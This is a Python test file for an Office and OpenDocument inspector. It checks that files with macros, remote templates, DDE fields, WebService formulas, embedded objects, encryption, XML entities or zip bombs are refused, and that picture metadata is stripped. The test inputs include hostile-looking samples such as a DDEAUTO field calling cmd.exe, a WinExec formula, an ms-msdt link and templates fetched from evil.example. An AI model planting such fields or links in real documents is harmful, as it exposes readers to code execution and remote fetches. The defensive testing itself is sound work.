"""Office files that run, fetch, hide or swell are refused; those with notes in their pictures lose them."""

import io

import pytest
from PIL import Image

from commonpractice.library.inspecting import RefusedError, inspect
from commonpractice.library.inspecting.bare_pictures import without_notes
from tests.library import brought_office as offices
from tests.library.brought_pictures import NOTE, drawing_with_notes, photograph

EMBEDDED = offices.packed({"a.txt": b"hello"})
MACRO = 'application/vnd.ms-word.document.macroEnabled.main+xml"'
ORDINARY_WORD = f'{offices.OFFICE}wordprocessingml.document.main+xml"'


def typed(kind: str) -> bytes:
    return offices.replaced(offices.word(), "[Content_Types].xml", ORDINARY_WORD, kind)


def linked(element: str) -> bytes:
    return offices.opened("text", element)


def locked() -> bytes:
    data = bytearray(offices.word())
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


REFUSED = {
    # Programs.
    "macros": (lambda: offices.with_parts(offices.word(), word__vbaProject_bin=offices.OLD), "macros"),
    "macros by their type": (lambda: typed(MACRO), "macros"),
    "macros by their relation": (lambda: offices.related("vbaProject", "x.xml", elsewhere=False), "macros"),
    "ActiveX": (lambda: offices.with_parts(offices.word(), word__activeX__activeX1_xml=b"<a/>"), "macros"),
    "buttons of its own": (lambda: offices.with_parts(offices.word(), customUI__customUI_xml=b"<a/>"), "macros"),
    "old macros of a sheet": (lambda: offices.sheet(xl__macrosheets__sheet1_xml=b"<a/>"), "macros"),
    "a formula that runs": (lambda: offices.sheet('CALL("Kernel32","WinExec")'), "macros"),
    "a slide that runs": (
        lambda: offices.with_parts(offices.written("pptx"), ppt__slides__slide9_xml=b"<a action='ppaction://program'/>"),
        "macros",
    ),
    "Basic": (lambda: offices.opened("text", "", Basic__Standard__a_xml=b"<a/>"), "macros"),
    "a script in OpenDocument": (lambda: linked("<office:script>x</office:script>"), "macros"),
    "a listener": (lambda: linked('<script:event-listener script:language="ooo:script"/>'), "macros"),
    # What is fetched when it is opened.
    "a template elsewhere": (lambda: offices.related("attachedTemplate", "https://evil.example/t.dotm"), "template"),
    "a template on a drive": (lambda: offices.related("attachedTemplate", "file:///t.dotm"), "template"),
    "a template of OpenDocument": (
        lambda: offices.opened("text", "", meta_xml='<a><template href="https://evil.example/t.ott"/></a>'),
        "template",
    ),
    "a linked object": (lambda: offices.related("oleObject", "https://evil.example/a.rtf"), "linked"),
    "a picture elsewhere": (lambda: offices.related("image", "https://evil.example/a.png"), "linked"),
    "a link that starts a program": (lambda: offices.related("hyperlink", "ms-msdt:/id"), "linked"),
    "a field that asks a program": (lambda: offices.field('DDEAUTO c:\\\\cmd.exe "/k calc"'), "linked"),
    "a field that includes": (lambda: offices.field('INCLUDEPICTURE "https://evil.example/a.png"'), "linked"),
    "a simple field": (lambda: offices.said_in_word('<w:fldSimple w:instr=" INCLUDETEXT c:/a "/>'), "linked"),
    "another workbook": (lambda: offices.sheet(xl__externalLinks__externalLink1_xml=b"<a/>"), "linked"),
    "a formula that asks a program": (lambda: offices.sheet("cmd|'/C calc'!A0"), "linked"),
    "a formula that fetches": (lambda: offices.sheet('_xlfn.WEBSERVICE("https://evil.example")'), "linked"),
    "a formula in OpenDocument": (
        lambda: offices.opened("spreadsheet", '<table:table-cell table:formula="of:=DDE(&quot;a&quot;)"/>'),
        "linked",
    ),
    "OpenDocument with a picture elsewhere": (lambda: linked('<draw:image xlink:href="https://evil.example/a"/>'), "linked"),
    "a second name hides the first": (
        lambda: linked('<draw:image xlink:href="https://evil.example/a" draw:href="Pictures/a.png"/>'),
        "linked",
    ),
    "OpenDocument with a section elsewhere": (lambda: linked('<text:section-source xlink:href="//evil/a"/>'), "linked"),
    # Other files inside.
    "an object": (lambda: offices.with_parts(offices.word(), word__embeddings__a_bin=offices.OLD), "embedded"),
    "an object by its bytes": (lambda: offices.with_parts(offices.word(), word__media__a_png=offices.OLD), "embedded"),
    "an object by its relation": (lambda: offices.related("oleObject", "a.xml", elsewhere=False), "embedded"),
    "a web page inside": (lambda: offices.with_parts(offices.word(), word__a_htm=b"<p>"), "embedded"),
    "a script inside": (lambda: offices.with_parts(offices.word(), word__a_js=b"1"), "embedded"),
    "a packed file inside": (lambda: offices.with_parts(offices.word(), word__media__a_png=EMBEDDED), "embedded"),
    "an object in OpenDocument": (
        lambda: offices.opened(
            "text", "", manifest='<manifest:file-entry manifest:full-path="Object 1/" manifest:media-type="application/pdf"/>'
        ),
        "embedded",
    ),
    "a workbook with a program": (lambda: offices.with_a_chart(offices.sheet("EXEC(1)")), "macros"),
    "a workbook that is none": (lambda: offices.with_a_chart(b"<p>Hello"), "embedded"),
    "a workbook in a workbook": (
        lambda: offices.with_a_chart(offices.sheet(xl__embeddings__a_xlsx=offices.sheet())),
        "embedded",
    ),
    "a drawing with a script": (lambda: offices.with_parts(offices.word(), word__media__a_svg=b"<svg onload='a()'/>"), "svg"),
    # Locked, damaged, and swelling.
    "a password": (lambda: offices.old("EncryptedPackage"), "password"),
    "a locked part": (locked, "password"),
    "a password in OpenDocument": (lambda: offices.opened("text", "", manifest="<manifest:encryption-data/>"), "password"),
    "entities": (
        lambda: offices.with_parts(offices.word(), word__document_xml=b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
        "entities",
    ),
    "entities in sixteen bits": (
        lambda: offices.with_parts(offices.word(), word__document_xml="<!DOCTYPE a []><a/>".encode("utf-16")),
        "entities",
    ),
    "swollen": (offices.swollen, "bomb"),
    "heavy": (offices.heavy, "bomb"),
    "many parts": (offices.many, "bomb"),
    "parts on the same bytes": (offices.shared, "bomb"),
    "a bomb inside": (lambda: offices.with_a_chart(offices.swollen()), "bomb"),
    "more than it says": (offices.lying, "damaged"),
    "half a file": (lambda: offices.word()[:4000], "damaged"),
    "broken XML": (lambda: offices.with_parts(offices.word(), word__document_xml=b"<a><b></a>"), "damaged"),
    "a part astray": (lambda: offices.packed({**offices.parts_of(offices.word()), "../../evil.xml": b"<a/>"}), "damaged"),
    "an old binary sheet": (lambda: typed('application/vnd.ms-excel.sheet.binary.macroEnabled.main"'), "old_office"),
    "a template of Word": (lambda: typed(f'{offices.OFFICE}wordprocessingml.template.main+xml"'), "unknown"),
}  # fmt: skip


@pytest.mark.parametrize("case", REFUSED)
def test_an_office_file_is_refused_by_its_kind(case):
    made, kind = REFUSED[case]
    with pytest.raises(RefusedError) as refused:
        inspect(made(), "plan.docx")
    assert refused.value.kind == kind


def test_links_that_people_follow_stay():
    followed = offices.related("hyperlink", "https://example.org/a")
    assert (
        b"https://example.org/a" in offices.parts_of(inspect(followed).data)["word/_rels/document.xml.rels"]
    )
    beside = '<a><template href="../../opt/share/plain.otp"/></a>'
    assert inspect(offices.opened("text", "", meta_xml=beside)).taken_out == ()
    assert inspect(linked('<text:a xlink:href="mailto:a@example.org"/>')).taken_out == ()
    assert inspect(offices.field('HYPERLINK "https://example.org/link"')).taken_out == ()


def test_links_to_somebodys_drive_lead_nowhere_afterwards():
    for found in (
        inspect(offices.related("hyperlink", "file:///\\\\server\\plan.docx")),
        inspect(linked('<text:a xlink:href="file:///server/plan.odt"/>')),
    ):
        kept = b"".join(offices.parts_of(found.data).values())
        assert found.taken_out == ("file_links",)
        assert (b"server" in kept, b"https://link.invalid/" in kept) == (False, True)


def test_links_to_a_drive_in_disguise_are_refused():
    with pytest.raises(RefusedError) as refused:
        inspect(offices.related("hyperlink", "f&#105;le:///server/plan.docx"))
    assert refused.value.kind == "linked"


def test_pictures_inside_lose_where_they_were_taken_and_stay_as_they_look():
    data = offices.with_parts(
        offices.word(), word__media__a_jpg=photograph(), word__media__b_png=drawing_with_notes()
    )
    found = inspect(data)
    assert found.taken_out == ("metadata",)
    parts = offices.parts_of(found.data)
    for name, before in (("word/media/a.jpg", photograph()), ("word/media/b.png", drawing_with_notes())):
        was, now = Image.open(io.BytesIO(before)), Image.open(io.BytesIO(parts[name]))
        assert now.tobytes() == was.tobytes()
        assert NOTE.encode() in before
        assert NOTE.encode() not in parts[name]
        assert b"GPS" not in parts[name]
        assert dict(now.getexif()) == ({0x0112: 6} if name.endswith("jpg") else {})


@pytest.mark.parametrize(
    "data", [b"\xff\xd8\xff\xe1", b"\x89PNG\r\n\x1a\n\x00", b"GIF89a", photograph()[:30]]
)
def test_a_broken_picture_inside_stays_as_it_is(data):
    assert without_notes(data) == data


def test_what_stood_between_the_parts_and_when_they_were_saved_is_gone():
    found = inspect(offices.word())
    assert b"2026" not in found.data[:40]
    again = offices.packed(offices.parts_of(found.data))
    assert offices.parts_of(again) == offices.parts_of(offices.word())
